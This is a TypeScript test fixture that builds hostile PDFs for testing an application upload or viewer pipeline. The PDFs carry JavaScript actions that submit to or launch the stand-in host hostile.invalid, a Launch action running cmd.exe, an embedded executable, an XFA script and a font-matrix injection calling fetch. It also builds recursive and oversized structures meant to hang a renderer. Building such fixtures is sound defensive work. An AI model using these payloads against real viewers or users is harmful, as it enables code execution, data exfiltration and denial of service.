/** A PDF built object by object, so that it can hold what no library would write. Objects are numbered from 1. */
const pdfOf = (objects: readonly string[]): Buffer => {
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const places = objects.map((body, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  text += places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
};

const stream = (data: string, dict = ''): string => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  readonly box?: string;
  readonly resources?: string;
  readonly content?: string;
  /** Numbered from 5. */
  readonly more?: readonly string[];
}

/** One page, and whatever is hung on its catalogue and on itself. */
const onePage = ({ catalog = '', page = '', box = '0 0 300 200', resources = '', content = '', more = [] }: Parts) =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << ${resources} >> ${page} >>`,
    stream(`0.6 g 20 20 120 80 re f ${content}`),
    ...more,
  ]);

const script =
  'app.alert\\("x"\\); this.submitForm\\("https://hostile.invalid/js"\\); app.launchURL\\("https://hostile.invalid/l"\\)';
const link = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A << ${action} >> >>]`;

export interface HostilePdf {
  readonly name: string;
  readonly bytes: () => Buffer;
  /** What the officer is told about it, in Chinese; null where there is nothing to tell but a page. */
  readonly told: string | null;
}

/** Forms within forms, each drawn twelve times by the one around it: ten million million strokes from two pages' worth. */
export const endlessPdf = (): Buffer => {
  const levels = 12;
  const form = (at: number): string =>
    at === levels
      ? stream('0 0 1 1 re f', '/Type /XObject /Subtype /Form /BBox [0 0 300 200]')
      : stream(
          '/X Do '.repeat(12),
          `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X ${7 + at} 0 R >> >>`,
        );
  const page = (content: number): string =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents ${content} 0 R /Resources << /XObject << /X 7 0 R >> >> >>`;
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] >>',
    page(5),
    page(6),
    stream('/X Do'),
    stream('0.6 g 20 20 120 80 re f'),
    ...Array.from({ length: levels }, (_, at) => form(at + 1)),
  ]);
};

/** Files an applicant could hand in to make a viewer run, fetch, hang or swell. */
export const hostilePdfs: readonly HostilePdf[] = [
  {
    name: '打开即脚本',
    told: '脚本',
    bytes: () => onePage({ catalog: `/OpenAction << /S /JavaScript /JS (${script}) >>` }),
  },
  {
    name: '命名脚本',
    told: '脚本',
    bytes: () =>
      onePage({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>` }),
  },
  {
    name: '脚本按钮',
    told: '脚本',
    bytes: () =>
      onePage({
        catalog: '/AcroForm << /Fields [5 0 R] >>',
        page: '/Annots [5 0 R]',
        more: [
          `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 300 200] /P 3 0 R /A << /S /JavaScript /JS (${script}) >> >>`,
        ],
      }),
  },
  {
    name: '启动程序',
    told: '链接',
    bytes: () => onePage({ page: link('/S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >>') }),
  },
  { name: '网址链接', told: '链接', bytes: () => onePage({ page: link('/S /URI /URI (https://hostile.invalid/u)') }) },
  { name: '脚本网址', told: '链接', bytes: () => onePage({ page: link('/S /URI /URI (javascript:alert\\(1\\))') }) },
  {
    name: '提交表单',
    told: null,
    bytes: () =>
      onePage({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://hostile.invalid/f) >> >>' }),
  },
  {
    name: '内嵌文件',
    told: '附件',
    bytes: () =>
      onePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>] >> >>',
        more: [stream('MZ a program', '/Type /EmbeddedFile')],
      }),
  },
  {
    name: '动态表单',
    told: '动态表单',
    bytes: () =>
      onePage({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
        more: [
          stream(
            '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>',
          ),
        ],
      }),
  },
  { name: '巨大页面', told: null, bytes: () => onePage({ box: '0 0 14400000 14400000' }) },
  {
    name: '字形套自己',
    told: null,
    bytes: () =>
      onePage({
        resources: '/Font << /F 5 0 R >>',
        content: 'BT /F 20 Tf 20 150 Td (a) Tj ET',
        more: [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Type /Encoding /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
          stream('1 0 d0 BT /F 1 Tf (a) Tj ET'),
        ],
      }),
  },
  {
    name: '字形藏脚本',
    told: null,
    bytes: () =>
      onePage({
        resources: '/Font << /F 5 0 R >>',
        content: 'BT /F 20 Tf 20 150 Td (a) Tj ET',
        more: [
          `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); fetch\\('https://hostile.invalid/font'\\)//)] >>`,
        ],
      }),
  },
  {
    name: '图形套自己',
    told: null,
    bytes: () =>
      onePage({
        resources: '/XObject << /X 5 0 R >>',
        content: '/X Do',
        more: [
          stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X 5 0 R >> >>'),
        ],
      }),
  },
  {
    name: '页树绕圈',
    told: null,
    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>']),
  },
];
